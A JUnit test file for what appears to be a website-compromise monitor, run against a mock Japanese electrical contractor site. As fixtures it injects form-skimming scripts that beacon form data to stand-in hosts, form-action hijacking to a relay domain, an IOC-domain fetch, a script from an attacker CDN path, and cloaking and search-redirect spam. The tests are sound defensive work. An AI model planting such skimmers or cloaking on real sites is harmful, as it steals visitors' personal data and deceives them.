package jp.mamori.checks.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import jp.mamori.checks.finding.Finding;
import jp.mamori.checks.web.site.TestSite;
import jp.mamori.checks.web.site.TestSite.Reply;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What a patrol reaches beyond the home page: form pages one step further, sub-pages as Googlebot, script files. */
class PatrolReachTest {
  static final String HOST = "www.sato-denki.test";
  @TempDir
  Path dir;
  final StaticResolver resolver = new StaticResolver(null).map(HOST, "127.0.0.1");
  /** Pages by path, editable between patrols; "bot:" + path answers Googlebot instead. */
  final Map<String, String> pages = new ConcurrentHashMap<>();

  static String page(String title, String body) {
    return "<!DOCTYPE html><html lang=\"ja\"><head><meta charset=\"UTF-8\"><title>" + title + "</title>"
        + "<script src=\"/js/app.js\"></script></head><body><h1>" + title + "</h1>" + body
        + "<p>佐藤電機株式会社は昭和六十年創業の電気工事会社です。照明、空調、太陽光発電の設計と施工を承ります。</p></body></html>";
  }

  List<Finding> patrol(TestSite site) throws Exception {
    Path iocs = dir.resolve("iocs.json");
    Files.writeString(iocs, "{\"version\":3,\"issuedAt\":\"2026-11-20T00:00:00Z\",\"data\":{\"iocs\":{\"domains\":"
        + "[\"bad-counter.example\"],\"scriptHashes\":[]}}}");
    Patrol p = new Patrol(PatrolOptions.defaults().withTimeouts(Duration.ofSeconds(2), Duration.ofSeconds(2),
        Duration.ofSeconds(4)).withIocFile(iocs), resolver, Clock.systemUTC());
    return p.run(site.url(HOST), dir.resolve("state")).run().findings();
  }

  /** Answers for visitors arriving from a search engine, by path (a page, or "redirect:" + where to). */
  final Map<String, String> fromSearch = new ConcurrentHashMap<>();

  TestSite site() throws Exception {
    TestSite site = TestSite.http();
    site.handler(r -> {
      String search = r.referer() != null && r.referer().contains("google.") ? fromSearch.get(r.path()) : null;
      if (search != null && search.startsWith("redirect:")) {
        return Reply.redirect(302, search.substring(9));
      }
      String bot = r.isBot() ? pages.get("bot:" + r.path()) : null;
      String text = search != null ? search : bot != null ? bot : pages.get(r.path());
      if (text == null) {
        return Reply.status(404);
      }
      String type = r.path().endsWith(".js") ? "application/javascript" : "text/html; charset=UTF-8";
      return new Reply(200, type, text.getBytes(StandardCharsets.UTF_8), Map.of(), false);
    });
    pages.put("/js/app.js", "document.addEventListener('DOMContentLoaded',function(){document.body.className+=' ready';});");
    pages.put("/", page("佐藤電機", "<a href=\"/jigyo/\">事業</a><a href=\"/jisseki/\">実績</a><a href=\"/saiyo/\">採用</a>"
        + "<a href=\"/kaisha/\">会社</a>"));
    for (String p : List.of("/jigyo/", "/jisseki/", "/kaisha/")) {
      pages.put(p, page(p, "<a href=\"/\">ホーム</a>"));
    }
    pages.put("/saiyo/", page("採用", "<a href=\"/saiyo/entry/\">エントリー</a><a href=\"/saiyo/voice/\">社員の声</a>"));
    pages.put("/saiyo/entry/", page("エントリー", "<form action=\"/saiyo/entry/\" method=\"post\"><input name=\"name\">"
        + "<input name=\"tel\"></form>"));
    pages.put("/saiyo/voice/", page("社員の声", "<p>入社3年目です。</p>"));
    return site;
  }

  static boolean has(List<Finding> found, String check, String pathPart) {
    return found.stream().anyMatch(f -> f.check().equals(check) && f.target().contains(pathPart) && f.severity().needsPerson());
  }

  @Test
  void formPagesOneStepFurtherAreVisited() throws Exception {
    try (TestSite site = site()) {
      pages.put("/saiyo/entry/", pages.get("/saiyo/entry/").replace("</body>", "<script>document.forms[0].addEventListener("
          + "'submit',function(){var d=new FormData(this);navigator.sendBeacon('https://entry-backup.example/s',"
          + "JSON.stringify(Object.fromEntries(d)))});</script></body>"));
      pages.put("/saiyo/voice/", pages.get("/saiyo/voice/").replace("</body>", "<script>navigator.sendBeacon("
          + "'https://voice-backup.example/s',JSON.stringify(Object.fromEntries(new FormData(document.forms[0]))))</script>"
          + "</body>"));
      List<Finding> found = patrol(site);
      assertThat(has(found, "web.skimmer", "/saiyo/entry/")).as("%s", found).isTrue();
      // a page two steps in that is not a form page is left to the sitemap and later patrols
      assertThat(found).noneMatch(f -> f.target().contains("/saiyo/voice/"));
    }
  }

  @Test
  void cloakingOnASubPageIsFoundWhenItsTurnComes() throws Exception {
    try (TestSite site = site()) {
      patrol(site);
      StringBuilder spam = new StringBuilder();
      for (int i = 0; i < 8; i++) {
        spam.append("<a href=\"https://kopi-").append(i).append(".example/\">ロレックス スーパーコピー 激安</a>");
      }
      pages.put("bot:/jisseki/", page("実績", spam.toString()));
      int linked = 4 + 1; // four pages linked from home and the entry form under the recruit page
      boolean seen = false;
      for (int run = 0; run < (linked + Patrol.BOT_SAMPLES - 1) / Patrol.BOT_SAMPLES && !seen; run++) {
        seen = has(patrol(site), "web.cloaking", "/jisseki/");
      }
      assertThat(seen).as("cloaking on /jisseki/ within %d patrols", (linked + Patrol.BOT_SAMPLES - 1) / Patrol.BOT_SAMPLES)
          .isTrue();
    }
  }

  @Test
  void scriptFilesCountForIocsAndFormActions() throws Exception {
    try (TestSite site = site()) {
      assertThat(patrol(site)).noneMatch(f -> f.severity().needsPerson());
      pages.put("/js/app.js", pages.get("/js/app.js") + "\n;fetch('https://api.bad-counter.example/c?h='+location.host);"
          + "\njQuery(function($){$('form').attr('action','https://form-relay.example/post.php');});");
      List<Finding> found = patrol(site);
      assertThat(found).anyMatch(f -> f.check().equals("web.ioc-domain") && f.severity().needsPerson());
      assertThat(found).anyMatch(f -> f.check().equals("web.form-offsite") && f.severity().needsPerson());
    }
  }

  @Test
  void searchVisitorsAndSearchRobotsSeeingAnotherSite() throws Exception {
    try (TestSite site = site()) {
      patrol(site);
      // the home page for visitors from a search: a casino page, no redirect
      StringBuilder casino = new StringBuilder();
      for (int i = 0; i < 4; i++) {
        casino.append("<a href=\"https://casino-").append(i).append(".example/\">オンラインカジノ 入金不要ボーナス</a>");
      }
      fromSearch.put("/", page("佐藤電機", casino.toString()));
      assertThat(has(patrol(site), "web.cloaking", "/")).isTrue();
      fromSearch.clear();
      // Googlebot told the home page belongs to another site
      pages.put("bot:/", pages.get("/").replace("</title>", "</title><link rel=\"canonical\" href=\"https://kopi.example/\">"));
      assertThat(patrol(site)).anyMatch(f -> f.check().equals("web.cloaking") && f.severity().needsPerson());
      pages.remove("bot:/");
      // sub-pages that send search visitors away, the home page spared: found as their turn comes
      for (String p : List.of("/jigyo/", "/jisseki/", "/saiyo/", "/kaisha/", "/saiyo/entry/")) {
        fromSearch.put(p, "redirect:https://kanagata-loan.example/");
      }
      boolean seen = false;
      for (int run = 0; run < 5 && !seen; run++) {
        seen = patrol(site).stream().anyMatch(f -> f.check().equals("web.redirect-search-referrer"));
      }
      assertThat(seen).isTrue();
    }
  }

  @Test
  void aRecordTypeTheSiteDidNotHaveIsAChange() throws Exception {
    try (TestSite site = site()) {
      patrol(site);
      resolver.record(HOST, "AAAA", "2001:db8::66");
      assertThat(patrol(site)).anyMatch(f -> f.check().equals("web.dns-changed") && f.target().contains(HOST)
          && f.severity().needsPerson());
    }
  }

  @Test
  void scriptsFromAGithubUserOnAPublicCdnAreThatUsersOrigin() throws Exception {
    try (TestSite site = site()) {
      pages.put("/", pages.get("/").replace("</head>", "<script src=\"https://cdn.jsdelivr.net/gh/owner-theme/fix@1/f.js\">"
          + "</script></head>"));
      assertThat(patrol(site)).anyMatch(f -> f.check().equals("web.third-party") && f.severity().needsPerson());
      assertThat(patrol(site)).noneMatch(f -> f.severity().needsPerson());
      pages.put("/", pages.get("/").replace("</head>", "<script src=\"https://cdn.jsdelivr.net/gh/attacker/x@main/x.js\">"
          + "</script></head>"));
      assertThat(patrol(site)).anyMatch(f -> f.check().equals("web.new-script-origin") && f.severity().needsPerson());
      // a baseline learned before such paths were origins learns the ones it has once, without an alarm
      Path state = dir.resolve("state").resolve(PatrolState.FILE);
      String learned = Files.readString(state);
      assertThat(learned).containsPattern("\"originKeys\"\\s*:\\s*" + Patrol.ORIGIN_KEYS);
      Files.writeString(state, learned.replaceAll("\"originKeys\"\\s*:\\s*\\d+", "\"originKeys\":1"));
      assertThat(patrol(site)).noneMatch(f -> f.severity().needsPerson());
    }
  }
}
